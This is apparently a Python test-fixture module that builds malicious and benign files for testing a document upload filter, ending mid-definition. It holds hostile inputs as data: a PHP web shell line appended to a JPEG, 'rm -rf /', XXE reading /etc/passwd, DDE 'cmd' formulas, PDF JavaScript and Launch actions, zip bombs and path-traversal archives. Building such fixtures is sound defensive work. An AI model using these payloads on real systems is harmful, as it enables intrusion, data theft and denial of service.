"""Files that mean harm, at least 150, and honest ones, at least 60; each made when asked, none kept in the repository.

HOSTILE: {name: how it is made}, each to be refused in a sentence. NEUTRALISED: pictures kept without what they carried. GOOD: accepted.
Numbers of social security are computed here from invented parts: they are nobody's.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from PIL import Image, PngImagePlugin

from tests.office_files import docx_parts, ods_parts, odt_parts, packed, pdf, picture, rels, types, xlsx_parts

Maker = Callable[[], bytes]
HOSTILE: dict[str, Maker] = {}
GOOD: dict[str, Maker] = {}
NEUTRALISED: dict[str, Maker] = {}

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 1024
OFFICE = {
    "docx": docx_parts,
    "xlsx": lambda: xlsx_parts([("Poste", "Montant"), ("Personnel", 120_000)]),
    "odt": lambda: odt_parts("Un paragraphe."),
    "ods": lambda: ods_parts([("Poste", "Montant"), ("Personnel", "120 000")]),
}


def nir(sex: int = 1, year: int = 84, month: int = 12, place: str = "76", town: int = 451, order: int = 89) -> str:
    """Fifteen characters with a right key."""
    stem = f"{sex}{year:02d}{month:02d}{place}{town:03d}{order:03d}"
    key = 97 - int(stem.replace("2A", "19").replace("2B", "18")) % 97
    return f"{stem}{key:02d}"


def spaced(number: str, by: str = " ") -> str:
    return by.join((number[0], number[1:3], number[3:5], number[5:7], number[7:10], number[10:13], number[13:]))


PATIENTS = [("Nom", "Prénom", "Date de naissance", "IPP")] + [
    ("MARTIN", "Luc", f"{day:02d}/03/19{day + 40}", f"80012345{day:02d}") for day in range(1, 8)
]


# ── neither of the kinds, or two at once ─────────────────────────────────────────────────────────────────────────────
HOSTILE |= {
    "vide": lambda: b"",
    "un octet": lambda: b"P",
    "zéros": lambda: bytes(4096),
    "texte": lambda: b"bonjour",
    "eicar nu": lambda: EICAR,
    "exécutable windows": lambda: b"MZ\x90\x00" + bytes(200),
    "exécutable elf": lambda: b"\x7fELF" + bytes(200),
    "script shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "html avec bom": lambda: b"\xef\xbb\xbf<html><script>alert(1)</script>",
    "svg à script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "svg qui charge": lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><image href='http://x.invalid/'/></svg>",
    "xml à entité externe": lambda: b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "rtf": lambda: rb"{\rtf1\ansi bonjour}",
    "mhtml": lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n",
    "csv": lambda: b"=cmd|'/c calc'!A1;2\n",
    "gif": lambda: picture("GIF", mode="P"),
    "bmp": lambda: picture("BMP"),
    "tiff": lambda: picture("TIFF"),
    "webp": lambda: picture("WEBP"),
    "ico": lambda: picture("ICO", (16, 16)),
    "gzip": lambda: zlib.compress(b"x" * 1000, wbits=31),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100),
    "tar": lambda: b"a.txt".ljust(257, b"\0") + b"ustar" + bytes(250),
    "ole": lambda: OLE,
    "ole à mot de passe": lambda: OLE + "EncryptedPackage".encode("utf-16-le"),
    "postscript": lambda: b"%!PS-Adobe-3.0\nshowpage",
    "java": lambda: b"\xca\xfe\xba\xbe" + bytes(60),
    "lien windows": lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100),
    "pdf après du html": lambda: b"<html>" + pdf("a"),
    "pdf après une ligne vide": lambda: b"\n" + pdf("a"),
    "pdf suivi d’un zip": lambda: pdf("a") + packed({"a.txt": "a"}),
    "pdf suivi d’un exécutable": lambda: pdf("a") + b"MZ" + bytes(200),
    "pdf suivi de html": lambda: pdf("a") + b"<script>alert(1)</script>",
    "pdf dans le commentaire d’un zip": lambda: _commented(pdf("a")),
    "pdf qui porte un zip": lambda: pdf("a").replace(b"%%EOF", packed({"a": "a"}) + b"\n%%EOF"),
    "png suivi d’un zip": lambda: picture() + packed({"a.txt": "a"}),
    "png suivi de html": lambda: picture() + b"<script>alert(1)</script>",
    "png qui porte un zip": lambda: _png_with(b"zzZz", packed({"a": "a"})),
    "jpeg suivi d’un zip": lambda: picture("JPEG") + packed({"a.txt": "a"}),
    "jpeg qui porte un zip": lambda: _jpeg_with(packed({"a.txt": "a"})),
    "jpeg suivi de php": lambda: picture("JPEG") + b"<?php system($_GET[0]);",
    "zip quelconque": lambda: packed({"a.txt": "a"}),
    "zip d’un pdf": lambda: packed({"a.pdf": pdf("a")}),
    "zip vide": lambda: b"PK\x05\x06" + bytes(18),
    "jar": lambda: packed({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "A.class": b"\xca\xfe\xba\xbe"}),
    "odg": lambda: packed({"mimetype": "application/vnd.oasis.opendocument.graphics", "content.xml": "<a/>"}),
    "pptx": lambda: packed(
        {"[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "ppt/presentation.xml"), "ppt/presentation.xml": "<a/>"}
    ),
    "docx et xlsx à la fois": lambda: packed(
        xlsx_parts() | {"word/document.xml": "<a/>", "[Content_Types].xml": types(_main("xlsx"), "xl/workbook.xml").replace("</Types>", f'<Override PartName="/word/document.xml" ContentType="{_main("docx")}"/></Types>')}
    ),
    "odt et docx à la fois": lambda: packed(odt_parts("a") | docx_parts("a")),
}  # fmt: skip


def _main(kind: str) -> str:
    from tests.office_files import DOCUMENT, SPREADSHEET

    return DOCUMENT if kind == "docx" else SPREADSHEET


def _commented(comment: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
        archive.comment = comment
    return out.getvalue()


def _png_with(name: bytes, body: bytes) -> bytes:
    whole = picture()
    chunk = struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    return whole[:33] + chunk + whole[33:]


def _jpeg_with(body: bytes) -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + whole[2:]


# ── pictures ─────────────────────────────────────────────────────────────────────────────────────────────────────────
def _declared(width: int, height: int) -> bytes:
    """A small PNG that says it is large."""
    head = struct.pack(">II5B", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in chunks
    )


HOSTILE |= {
    "png de 25 milliards de pixels": lambda: _declared(160_000, 160_000),
    "png de 26 millions de pixels": lambda: picture(size=(5200, 5001), mode="L"),
    "png sans pixels": lambda: _declared(0, 0),
    "png dont les pixels manquent": lambda: _declared(400, 400),
    "png tronqué": lambda: picture()[:-20],
    "png à texte qui gonfle": lambda: _png_with(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 80_000_000, 9)),
    "jpeg tronqué": lambda: picture("JPEG", (300, 300))[:200] + b"\xff\xd9",
    "jpeg sans fin": lambda: picture("JPEG")[:-2],
    "jpeg vide": lambda: b"\xff\xd8\xff\xd9",
    "jpeg trop grand": lambda: picture("JPEG", (5200, 5001), "L"),
}


# ── PDF that act, carry, hide or weigh ───────────────────────────────────────────────────────────────────────────────
def _on_open(**action: object) -> Maker:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(**action)

    return lambda: pdf("a", change=change)


def _on_page(place: str, **action: object) -> Maker:
    def change(made: pikepdf.Pdf) -> None:
        held = pikepdf.Dictionary(**action)
        if place == "lien":
            made.pages[0].Annots = [
                pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=held)
            ]
        elif place == "suite":
            made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=[held]))
        elif place == "champ":
            field = made.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="a", AA=pikepdf.Dictionary(K=held)))
            made.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
        elif place == "signet":
            made.Root.Outlines = made.make_indirect(
                pikepdf.Dictionary(First=made.make_indirect(pikepdf.Dictionary(Title="a", A=held)))
            )
        elif place == "enfoui":
            for _ in range(60):
                held = pikepdf.Array([held])
            made.pages[0].PieceInfo = held
        elif place == "tableau":
            made.pages[0].PieceInfo = made.make_indirect(pikepdf.Array([1, held]))
        else:
            made.pages[0].AA = pikepdf.Dictionary(**{place: held})

    return lambda: pdf("a", change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


SCRIPT = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}
LAUNCH = {"S": pikepdf.Name.Launch, "F": "calc.exe"}
HOSTILE |= {
    f"pdf {name} à l’ouverture": _on_open(**action)
    for name, action in {
        "script": SCRIPT,
        "lancement": LAUNCH,
        "envoi de formulaire": {"S": pikepdf.Name.SubmitForm, "F": "http://x.invalid"},
        "import de données": {"S": pikepdf.Name.ImportData, "F": "a.fdf"},
        "fichier voisin": {"S": pikepdf.Name.GoToE, "F": "a.pdf"},
        "rendu": {"S": pikepdf.Name.Rendition, "OP": 0},
        "script sans nom": {"JS": "app.alert(1)"},
    }.items()
}
HOSTILE |= {
    f"pdf {name} : {place}": _on_page(place, **action)
    for name, action in {"script": SCRIPT, "lancement": LAUNCH}.items()
    for place in ("lien", "suite", "champ", "signet", "enfoui", "tableau", "O", "C", "WC")
}


def _carrying(subtype: str) -> Maker:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = [
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{subtype}"), Rect=[0, 0, 9, 9])
        ]

    return lambda: pdf("a", change=change)


def _changed(change: Callable[[pikepdf.Pdf], object], **save: object) -> Maker:
    return lambda: pdf("a", change=lambda made: change(made) and None, **save)


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["charge.exe"] = b"MZ"


def _names(made: pikepdf.Pdf) -> None:
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[]))


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=[])


def _embedded_stream(made: pikepdf.Pdf) -> None:
    held = made.make_stream(b"MZ")
    held.Type = pikepdf.Name.EmbeddedFile
    made.pages[0].PieceInfo = held


def _deflated(size: int, head: bytes = b"") -> bytes:
    """Blanks of this size once unpacked, made without holding them."""
    packer = zlib.compressobj(9)
    return b"".join(
        [packer.compress(head), *(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)), packer.flush()]
    )


def _raw(*objects: bytes, tail: bytes = b"%%EOF\n") -> bytes:
    """Objects 1, 2 … with a plain cross-reference table; object 1 is the catalogue."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in offsets
    )
    return bytes(out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n" % (len(objects) + 1, table) + tail)


_PAGES = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>%s>>"


def packed_objects(size: int, filters: bytes = b"/FlateDecode", twice: bool = False) -> bytes:
    """Objects kept in a stream that unpacks to `size` bytes: where a script would hide from a reader that gives up."""
    data = _deflated(size, b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    data = zlib.compress(data, 9) if twice else data
    out, offsets = bytearray(b"%PDF-1.5\n"), {}
    for number, body in (
        (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>"),
        (2, _PAGES[1]),
        (3, _PAGE % b""),
        (4, b"<</Type/ObjStm/N 1/First 4/Filter %s/Length %d>>stream\n" % (filters, len(data)) + data + b"\nendstream"),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    here = len(out)
    rows = b"".join(bytes([1]) + offsets[number].to_bytes(4, "big") + b"\0" for number in (1, 2, 3, 4))
    rows = bytes(6) + rows + bytes([2]) + (4).to_bytes(4, "big") + b"\0" + bytes([1]) + here.to_bytes(4, "big") + b"\0"
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % here)


HOSTILE |= {
    f"pdf qui porte {name}": _carrying(name) for name in ("FileAttachment", "RichMedia", "Movie", "Sound", "Screen", "3D")
} | {
    "pdf fichier joint": _changed(_attach),
    "pdf scripts nommés": _changed(_names),
    "pdf formulaire xfa": _changed(_xfa),
    "pdf flux de fichier": _changed(_embedded_stream),
    "pdf chiffré": _changed(lambda made: None, encryption=pikepdf.Encryption(owner="o", user="u")),
    "pdf chiffré sans mot de passe": _changed(lambda made: None, encryption=pikepdf.Encryption(owner="o", user="")),
    "pdf tronqué": lambda: pdf("a" * 500)[:300],
    "pdf sans rien": lambda: b"%PDF-1.7\n%%EOF\n",
    "pdf sans fin": lambda: pdf("a").replace(b"%%EOF", b""),
    "pdf sans page": lambda: _raw(_PAGES[0], b"<</Type/Pages/Kids[]/Count 0>>"),
    "pdf qui tourne en rond": lambda: _raw(_PAGES[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "pdf aux tableaux sans fond": lambda: _raw(*_PAGES, _PAGE % (b"/X " + b"[" * 5000 + b"]" * 5000)),
    "pdf au script dans un nom échappé": lambda: _raw(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(a)>>>>", _PAGES[1], _PAGE % b""),
    "pdf au script dans des objets rangés": lambda: packed_objects(0),
    "pdf au script sous 60 Mo de blancs": lambda: packed_objects(50_000_000),
    "pdf qui gonfle à 1 Go": lambda: packed_objects(1_000_000_000),
    "pdf qui gonfle deux fois": lambda: packed_objects(1_000_000_000, b"[/FlateDecode/FlateDecode]", True),
    "pdf aux filtres en chaîne": lambda: packed_objects(0, b"[" + b"/ASCIIHexDecode" * 20 + b"]"),
    "pdf en lzw": lambda: packed_objects(0, b"/LZWDecode"),
    "pdf en lzw échappé": lambda: packed_objects(0, b"/L#5aWDecode"),
    "pdf au script dont la longueur ment": lambda: _raw(b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", _PAGES[1], _PAGE % b"", b"<</S/JavaScript/JS 5 0 R/Length 3>>stream\nxxxxxxxxxxxxxxxxxx\nendstream", b"<</Length 2>>stream\napp.alert(1)\nendstream"),
    "pdf de 2 001 pages": lambda: _raw(_PAGES[0], b"<</Type/Pages/Kids[%s]/Count 2001>>" % (b"3 0 R " * 2001), _PAGE % b""),
}  # fmt: skip


# ── archives that lie, weigh or climb ────────────────────────────────────────────────────────────────────────────────
def _patched(content: bytes, offset: int, value: bytes, *, local: int | None = None, nth: int = 0) -> bytes:
    """Changes a field of the nth central entry, and of its local header where `local` says."""
    out = bytearray(content)
    at = -1
    for _ in range(nth + 1):
        at = out.find(b"PK\x01\x02", at + 1)
    out[at + offset : at + offset + len(value)] = value
    if local is not None:
        here = struct.unpack_from("<I", out, at + 42)[0]
        out[here + local : here + local + len(value)] = value
    return bytes(out)


def _linked(parts: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in parts.items():
            archive.writestr(zipfile.ZipInfo(name), body)
        link = zipfile.ZipInfo("xl/lien.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice(parts: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in [*parts.items(), list(parts.items())[-1]]:
            archive.writestr(zipfile.ZipInfo(name), body)
    return out.getvalue()


def _prefixed(content: bytes) -> bytes:
    """A document behind a program that begins as an archive would."""
    return b"PK\x03\x04" + bytes(60) + content


def typed(parts: dict, name: str, kind: str, body: str = "<a/>") -> dict:
    """With one more part and what it says it is; OpenDocument has no table of types and knows parts by their names."""
    table = str(parts.get("[Content_Types].xml", ""))
    told = {
        "[Content_Types].xml": table.replace("</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')
    }
    return parts | {name: body} | (told if table else {})


def _archives(kind: str, parts: Callable[[], dict]) -> Iterator[tuple[str, Maker]]:
    more = lambda **extra: lambda: packed(parts() | {name.replace("__", "/"): body for name, body in extra.items()})  # noqa: E731
    yield "chemin qui remonte", lambda: packed(parts() | {"../../etc/cron.d/x": "x"})
    yield "chemin absolu", lambda: packed(parts() | {"/etc/passwd": "x"})
    yield "chemin de windows", lambda: packed(parts() | {"..\\..\\x": "x"})
    yield "nom à retour de ligne", lambda: packed(parts() | {"a\r\nb": "x"})
    yield "lecteur de windows", lambda: packed(parts() | {"C:x": "x"})
    yield "lien symbolique", lambda: _linked(parts())
    yield "nom en double", lambda: _twice(parts())
    yield (
        "noms en double par la casse",
        lambda: packed(parts() | {next(iter(parts())).upper() + "": "x"} | {next(iter(parts())).swapcase(): "y"}),
    )
    yield "bombe", more(media__a=b"\0" * 30_000_000)
    yield "bombe en petits", lambda: packed(parts() | {f"m/{n}": b"\0" * 900_000 for n in range(260)})
    yield "xml qui gonfle", lambda: packed(parts() | {"a.xml": "<a>" + "b" * 9_000_000 + "</a>"})
    yield "trop d’entrées", lambda: packed(parts() | {f"m/{n}": "" for n in range(2001)})
    yield (
        "taille qui ment",
        lambda: _patched(
            packed(parts() | {"z.xml": "<a>" + "b " * 3000 + "</a>"}), 24, struct.pack("<I", 9), nth=len(parts())
        ),
    )
    yield "chiffré", lambda: _patched(packed(parts()), 8, b"\1", local=6)
    yield "méthode inconnue", lambda: _patched(packed(parts()), 10, b"\x0e\0", local=8)
    yield "nom local différent", lambda: packed(parts()).replace(b".xml", b".xmx", 1)
    yield "précédé d’autre chose", lambda: _prefixed(packed(parts()))
    yield "suivi d’autre chose", lambda: packed(parts()) + b"MZ" + bytes(40)
    yield "tronqué", lambda: packed(parts())[:-30]
    yield (
        "entité externe",
        lambda: packed(parts() | {"a.xml": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}),
    )
    yield (
        "rires par milliards",
        lambda: packed(parts() | {"a.xml": "<!DOCTYPE a [<!ENTITY b 'c'><!ENTITY d '&b;&b;&b;&b;'>]><a>&d;</a>"}),
    )
    yield (
        "entité en utf-16",
        lambda: packed(
            parts()
            | {
                "a.xml": "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>".encode(
                    "utf-16"
                )
            }
        ),
    )
    yield "xml abîmé", more(**{"a.xml": "<a><b></a>"})
    yield "programme caché", more(media__image1_png=b"MZ" + bytes(300))
    yield "ole caché", more(media__image2_png=OLE)
    yield "document caché", lambda: packed(parts() | {"media/a": packed({"a": "a"})})
    yield (
        "projet de macros",
        lambda: packed(typed(parts(), "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")),
    )


HOSTILE |= {
    f"{kind} {name}": make for kind in ("docx", "xlsx", "odt", "ods") for name, make in _archives(kind, OFFICE[kind])
}
HOSTILE["xlsx de cent mille entrées"] = lambda: packed(xlsx_parts() | {f"m/{n}": "" for n in range(100_000)})


# ── documents that run or fetch ──────────────────────────────────────────────────────────────────────────────────────
def _word(more: str, **parts: str) -> Maker:
    return lambda: packed(docx_parts("a", more=more) | {name.replace("__", "/"): body for name, body in parts.items()})


def _field(*runs: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        + "</w:p>"
    )


def _related(kind: str, target: str, *outside: str, part: str = "word/_rels/document.xml.rels") -> Maker:
    return lambda: packed(
        (docx_parts("a") if part.startswith("word") else xlsx_parts()) | {part: rels((kind, target, *outside))}
    )


def _formula(text: str) -> Maker:
    return lambda: packed(xlsx_parts(more=f'<row r="9"><c r="A9"><f>{text}</f></c></row>'))


HOSTILE |= {
    "docm": lambda: packed(docx_parts("a") | {"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")}),
    "xlsm": lambda: packed(xlsx_parts() | {"[Content_Types].xml": types("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml")}),
    "xlsx feuille de macros": lambda: packed(typed(xlsx_parts(), "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
    "xlsx objet incorporé": lambda: packed(typed(xlsx_parts(), "xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")),
    "xlsx activex": lambda: packed(typed(xlsx_parts(), "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
    "xlsx lien externe": lambda: packed(typed(xlsx_parts(), "xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")),
    "xlsx connexion": lambda: packed(typed(xlsx_parts(), "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")),
    "xlsx image distante": _related("image", "http://x.invalid/a.png", "x", part="xl/worksheets/_rels/sheet1.xml.rels"),
    "xlsx formule qui va au réseau": _formula("WEBSERVICE(\"http://x.invalid\")"),
    "xlsx formule dde": _formula("cmd|'/c calc'!A1"),
    "xlsx nom dde": lambda: packed(xlsx_parts() | {"xl/workbook.xml": "<workbook><definedNames><definedName>cmd|'/c calc'!A1</definedName></definedNames></workbook>"}),
    "docx modèle distant": _related("attachedTemplate", "http://x.invalid/a.dotm", "x", part="word/_rels/settings.xml.rels"),
    "docx image distante": _related("image", "http://x.invalid/a.png", "x"),
    "docx cadre distant": _related("frame", "http://x.invalid/", "x"),
    "docx lien vers un partage": _related("hyperlink", "file://x.invalid/partage", "x"),
    "docx lien à script": _related("hyperlink", "javascript:alert(1)", "x"),
    "docx objet ole": _related("oleObject", "embeddings/a.bin"),
    "docx morceau de html": _related("aFChunk", "a.html"),
    "docx contrôle": _related("control", "activeX/a.xml"),
    "docx incorporé": lambda: packed(typed(docx_parts("a"), "word/embeddings/a.bin", "application/vnd.openxmlformats-officedocument.oleObject")),
    "docx champ dde": _word(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "docx champ dde coupé": _word(_field(" DD", "EAUTO cmd")),
    "docx champ simple": _word('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://x.invalid/a.png"/></w:p>'),
    "docx texte inclus": _word(_field("INCLUDETEXT file:///etc/passwd")),
    "docx bouton à macro": _word(_field("MACROBUTTON x y")),
    "docx objet": _word("<w:p><w:r><w:object/></w:r></w:p>"),
    "docx altchunk": _word('<w:altChunk r:id="r9"/>'),
    "odt macros": lambda: packed(odt_parts("a") | {"Basic/Standard/Module1.xml": "<a/>"}),
    "odt scripts": lambda: packed(odt_parts("a") | {"Scripts/python/a.py": "import os"}),
    "odt écoute": lambda: packed(odt_parts("a", more='<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/></office:event-listeners>')),
    "odt script": lambda: packed(odt_parts("a", body="<text:script script:language='x'>a</text:script>")),
    "odt image distante": lambda: packed(odt_parts("a", body="<draw:image xlink:href='http://x.invalid/a.png'/>")),
    "odt image d’un partage": lambda: packed(odt_parts("a", body="<draw:image xlink:href='//x.invalid/a.png'/>")),
    "odt section liée": lambda: packed(odt_parts("a", body="<text:section><text:section-source xlink:href='file:///etc/passwd'/></text:section>")),
    "odt lien à script": lambda: packed(odt_parts("a", body="<text:p><text:a xlink:href='vnd.sun.star.script:a'>a</text:a></text:p>")),
    "odt cadre": lambda: packed(odt_parts("a", body="<draw:floating-frame xlink:href='http://x.invalid/'/>")),
    "odt greffon": lambda: packed(odt_parts("a", body="<draw:plugin xlink:href='a'/>")),
    "odt applet": lambda: packed(odt_parts("a", body="<draw:applet/>")),
    "odt rechargement": lambda: packed(odt_parts("a", body="<meta:auto-reload xlink:href='http://x.invalid/'/>")),
    "odt chiffré": lambda: packed(odt_parts("a") | {"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
    "odt mimetype en second": lambda: packed(dict(sorted(odt_parts("a").items()))),
    "odt mimetype comprimé": lambda: packed(odt_parts("a"), stored=()),
    "odt sans contenu": lambda: packed({"mimetype": odt_parts()["mimetype"]}),
    "ods source dde": lambda: packed(ods_parts(body="<office:dde-source office:dde-application='cmd'/>")),
    "ods formule réseau": lambda: packed(ods_parts(body="<table:table-cell table:formula='of:=WEBSERVICE(&quot;http://x.invalid&quot;)'/>")),
    "ods table liée": lambda: packed(ods_parts(body="<table:table-source xlink:href='file:///c:/a.ods'/>")),
    "ods modèle": lambda: packed(ods_parts() | {"mimetype": "application/vnd.oasis.opendocument.spreadsheet-template"}),
    "ods objet ole": lambda: packed(ods_parts() | {"Object 1": OLE}),
}  # fmt: skip


# ── people ───────────────────────────────────────────────────────────────────────────────────────────────────────────
def _separate(number: str) -> bytes:
    """A PDF that draws each digit on its own."""

    def change(made: pikepdf.Pdf) -> None:
        said = "".join(f"({digit}) Tj 12 0 Td " for digit in number)
        made.pages[0].Contents = made.make_stream(f"BT /F1 11 Tf 60 700 Td {said} ET".encode())

    return pdf("a", change=change)


def _mapped(number: str) -> bytes:
    """A PDF whose font has codes of its own, told by a ToUnicode map, as office suites write them."""

    def change(made: pikepdf.Pdf) -> None:
        rows = "".join(f"<{code + 3:04x}> <{ord(letter):04x}>\n" for code, letter in enumerate("0123456789 "))
        cmap = f"1 begincodespacerange <0000> <ffff> endcodespacerange 11 beginbfchar\n{rows}endbfchar"
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type0, ToUnicode=made.make_stream(cmap.encode())
        )
        made.pages[0].Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        codes = "".join(f"{'0123456789 '.index(letter) + 3:04x}" for letter in number)
        made.pages[0].Contents = made.make_stream(f"BT /F1 11 Tf 60 700 Td [<{codes}>] TJ ET".encode())

    return pdf("a", change=change)


HOSTILE |= {
    "numéro dans un docx": lambda: packed(docx_parts("Assuré", f"n° {nir()}")),
    "numéro espacé dans un docx": lambda: packed(docx_parts(f"NIR : {spaced(nir(2, 61, 7))}")),
    "numéro corse dans un docx": lambda: packed(docx_parts(f"NIR : {spaced(nir(place='2A'))}")),
    "numéro de haute-corse dans un odt": lambda: packed(odt_parts(f"NIR {nir(2, place='2B')}")),
    "numéro coupé en deux morceaux d’un docx": lambda: packed(docx_parts(more=f"<w:p><w:r><w:t>{nir()[:6]}</w:t></w:r><w:r><w:t>{nir()[6:]}</w:t></w:r></w:p>")),
    "numéro insécable dans un odt": lambda: packed(odt_parts(f"NIR {spaced(nir(), chr(0x202F))}")),
    "numéro dans un tableau docx": lambda: packed(docx_parts(rows=[("Nom", "NIR"), ("MARTIN", nir())])),
    "numéro et clé en deux cellules": lambda: packed(xlsx_parts([("NIR", "Clé"), (nir()[:13], nir()[13:])])),
    "numéro comme nombre dans un xlsx": lambda: packed(xlsx_parts([("NIR",), (int(nir()),)])),
    "numéro en exposant dans un xlsx": lambda: packed(xlsx_parts([("NIR",), (f"{nir()[0]}.{nir()[1:]}E14",)])).replace(b"x", b"x"),
    "numéro dans un commentaire xlsx": lambda: packed(xlsx_parts() | {"xl/comments1.xml": f"<comments><comment><text><t>{nir()}</t></text></comment></comments>"}),
    "numéro nom de feuille": lambda: packed(xlsx_parts([("a",)], sheet=nir())),
    "numéro dans un ods": lambda: packed(ods_parts([("NIR",), (spaced(nir(1, 55, 1, "13")),)])),
    "numéro dans un pdf": lambda: pdf("Assuré", f"NIR {spaced(nir())}"),
    "numéro collé dans un pdf": lambda: pdf(f"NIR{nir(2, 70, 5, '69')}"),
    "numéro en cases dans un pdf": lambda: _separate(nir()),
    "numéro codé dans un pdf": lambda: _mapped(spaced(nir())),
    "numéro en page 40 d’un pdf": lambda: pdf("a", pages=40, change=lambda made: setattr(made.pages[39], "Contents", made.make_stream(f"BT /F1 9 Tf ({nir()}) Tj ET".encode()))),
    "liste de patients xlsx": lambda: packed(xlsx_parts(PATIENTS)),
    "liste de patients xlsx à dates en nombres": lambda: packed(xlsx_parts([("IPP", "DDN", "Sexe"), *((f"80{n}", 20_000 + n, "F") for n in range(6))])),
    "liste de patients ods": lambda: packed(ods_parts(PATIENTS)),
    "liste de patients docx": lambda: packed(docx_parts(rows=PATIENTS)),
    "liste de patients pdf": lambda: pdf("Nom  Prénom  Date de naissance  IPP", *("  ".join(row) for row in PATIENTS[1:])),
}  # fmt: skip


# ── pictures kept without what they carried ──────────────────────────────────────────────────────────────────────────
def _exif(where: str) -> bytes:
    held = Image.Exif()
    held[0x010E] = where
    held[0x8825] = {1: "N", 2: (48.0, 6.0, 41.0)}
    return held.tobytes()


def _texted() -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "<script>alert('SECRET')</script>")
    return picture(pnginfo=said)


NEUTRALISED |= {
    "png à commentaire": _texted,
